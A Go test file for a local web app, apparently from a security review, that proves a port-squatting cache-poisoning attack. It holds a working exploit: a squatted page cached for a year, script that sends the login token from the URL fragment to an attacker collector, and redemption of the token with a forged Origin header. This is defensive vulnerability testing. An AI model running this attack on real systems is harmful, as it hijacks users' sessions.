package webapp_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/securejingle/securejingle/internal/browsertest"
	"github.com/securejingle/securejingle/internal/webapp"
)

// TestPoCPortSquatCachePoisoning (review rvweb3): another local user who
// holds the app's port while the daemon is down, and gets the user's
// browser to load it once (a page of theirs on another 127.0.0.1 port
// navigates there), plants a fresh HTTP cache entry for the app origin's
// "/". Once the real daemon is back on the port, the login link the user
// opens is answered from the cache: the attacker's script runs on the
// app's own origin, reads the one-time token from the fragment and hands
// it to the attacker, who redeems it first (a full session: cookie and
// base). The daemon never sees the navigation.
func TestPoCPortSquatCachePoisoning(t *testing.T) {
	b := browsertest.Start(t, nil)

	// The attacker's collector: receives the stolen token and redeems
	// it at the real daemon from a plain client (Origin forged).
	stolen := make(chan string, 4)
	collector := browsertest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/steal":
			stolen <- r.URL.Query().Get("h")
		case "/go":
			// The attacker's page on another port: sends the browser to
			// the squatted app port once.
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<script>location = %q</script>`, "http://"+r.URL.Query().Get("to")+"/")
		}
	}))

	// The squat: the daemon is down, the attacker holds its port.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	appHost := l.Addr().String()
	squat := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
		fmt.Fprintf(w, `<!doctype html><title>securejingle</title><p id=evil>evil</p><script>
fetch(%q + "/steal?h=" + encodeURIComponent(location.hash), {mode: "no-cors"});
</script>`, collector)
	})}}
	squat.Start()

	tab := b.NewTab()
	browsertest.Open(t, tab, collector+"/go?to="+appHost)
	if _, err := browsertest.Eval[bool](tab, `new Promise(r => { const f = () => document.getElementById("evil") ? r(true) : setTimeout(f, 50); f(); })`, 10*time.Second); err != nil {
		t.Fatalf("squatted page not loaded: %v", err)
	}
	<-stolen // the visit itself
	squat.Close()

	// The real daemon starts on its port again.
	srv, err := webapp.New(webapp.Config{Listen: appHost, API: http.NotFoundHandler(), Account: "alice@example.org"})
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve()
	t.Cleanup(func() { srv.Close() })

	// The user runs `securejingle ui` and opens the link in a new tab.
	link, _ := srv.LoginURL()
	tab2 := b.NewTab()
	browsertest.Open(t, tab2, link)
	var h string
	select {
	case h = <-stolen:
	case <-time.After(10 * time.Second):
		t.Fatal("the real page was served: no cache poisoning")
	}
	tok, ok := strings.CutPrefix(h, "#token=")
	if !ok {
		t.Fatalf("stolen fragment %q", h)
	}
	// The attacker redeems it from their own client.
	req, _ := http.NewRequestWithContext(context.Background(), "POST", srv.Origin()+"/login", strings.NewReader(`{"token":"`+tok+`"}`))
	req.Header.Set("Origin", srv.Origin())
	req.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	var li webapp.LoginInfo
	_ = json.Unmarshal(body, &li)
	if res.StatusCode != 200 || li.Base == "" {
		t.Fatalf("redeem: %d %s", res.StatusCode, body)
	}
	t.Logf("VULNERABLE: the attacker's cached page ran on %s, stole the login token and redeemed it: base %s, cookie %v", srv.Origin(), li.Base, res.Cookies()[0].Name)
}
